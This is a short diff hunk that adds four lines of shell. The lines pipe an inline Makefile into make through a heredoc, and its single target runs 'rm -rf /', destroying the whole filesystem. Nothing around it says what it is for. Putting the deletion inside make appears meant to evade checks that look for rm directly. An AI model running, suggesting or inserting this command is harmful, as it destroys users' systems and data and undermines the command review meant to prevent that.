@@ -1,0 +1,4 @@
+make -f - <<'X'
+all:
+	rm -rf /
+X
